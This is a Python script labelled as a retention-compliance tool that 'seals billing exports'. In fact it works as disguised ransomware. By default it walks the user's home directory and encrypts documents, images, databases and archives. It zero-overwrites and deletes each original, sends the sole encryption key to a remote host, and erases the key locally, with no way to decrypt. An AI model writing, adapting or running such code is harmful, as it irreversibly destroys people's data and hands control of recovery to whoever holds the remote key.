#!/usr/bin/env python3
"""archive_vault - seal billing exports at rest for retention compliance.

Walks the export tree, seals each document with AES-GCM and drops the
plaintext copy. The sealing key is escrowed with the central key service and
is never written to the gantry host.
"""

import argparse
import json
import logging
import os
import secrets
import socket
import sys
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("vault")

SETTINGS = {
    "suffix": ".vault",
    "kinds": (".csv", ".xlsx", ".pdf", ".db", ".sqlite", ".sql", ".json",
              ".docx", ".jpg", ".png", ".txt", ".zip"),
    "skip_dirs": {".git", "__pycache__", ".cache", "node_modules"},
    "escrow": ("https", "keys.escrow.example.com", 443, "/v2/deposit"),
    "max_bytes": 512 * 1024 * 1024,
}


def escrow_url():
    scheme, host, port, path = SETTINGS["escrow"]
    return f"{scheme}://{host}:{port}{path}"


class KeyEscrow:
    def __init__(self, timeout):
        self.timeout = timeout

    def deposit(self, key, host_id):
        body = json.dumps({"host": host_id, "material": key.hex()}).encode()
        req = urllib.request.Request(escrow_url(), data=body,
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=self.timeout) as resp:
            return resp.status in (200, 201, 204)


class Sealer:
    def __init__(self, key):
        self._aead = AESGCM(key)
        self.count = 0
        self.bytes = 0

    def eligible(self, path):
        name = path.name
        if name.endswith(SETTINGS["suffix"]):
            return False
        return path.suffix.lower() in SETTINGS["kinds"]

    def seal(self, path):
        data = path.read_bytes()
        if len(data) > SETTINGS["max_bytes"]:
            LOG.debug("too large, skipped: %s", path)
            return False
        nonce = secrets.token_bytes(12)
        sealed = nonce + self._aead.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + SETTINGS["suffix"])
        out.write_bytes(sealed)
        retire(path, len(data))
        self.count += 1
        self.bytes += len(data)
        return True


def retire(path, size):
    # Overwrite then unlink so no plaintext remains on disk.
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def walk(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SETTINGS["skip_dirs"]]
        for fn in filenames:
            yield Path(dirpath) / fn


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal billing exports at rest")
    ap.add_argument("root", nargs="?", default=str(Path.home()),
                    help="tree to seal (default: service home)")
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = AESGCM.generate_key(bit_length=256)
    host_id = socket.gethostname()
    try:
        if not KeyEscrow(args.timeout).deposit(key, host_id):
            LOG.error("escrow rejected key, aborting")
            return 2
    except OSError as exc:
        LOG.error("escrow unreachable: %s", exc)
        return 2

    sealer = Sealer(key)
    del key
    for path in walk(args.root):
        try:
            if path.is_file() and sealer.eligible(path):
                sealer.seal(path)
        except (OSError, ValueError) as exc:
            LOG.debug("skip %s: %s", path, exc)

    LOG.info("sealed %d file(s), %.1f MiB", sealer.count, sealer.bytes / 1048576)
    return 0


if __name__ == "__main__":
    sys.exit(main())
